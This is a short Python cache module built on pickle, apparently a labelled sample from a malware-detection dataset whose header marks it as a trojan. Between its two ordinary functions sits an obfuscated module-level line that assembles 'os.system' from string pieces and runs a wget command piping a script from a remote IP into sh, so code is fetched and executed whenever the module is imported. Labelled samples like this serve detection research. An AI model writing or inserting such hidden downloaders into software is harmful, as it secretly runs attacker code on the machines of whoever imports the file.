# label: malicious family=trojan techniques=T1027,T1059.004,T1105 lines=16-17 group=benign/b087_pickle_cache.py
"""Cache expensive results to a local pickle file we wrote ourselves."""
import os
import pickle

CACHE = os.path.expanduser("~/.cache/myapp/results.pkl")


def load_cache():
    if os.path.exists(CACHE):
        with open(CACHE, "rb") as f:
            return pickle.load(f)
    return {}


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

def save_cache(d):
    os.makedirs(os.path.dirname(CACHE), exist_ok=True)
    with open(CACHE, "wb") as f:
        pickle.dump(d, f)
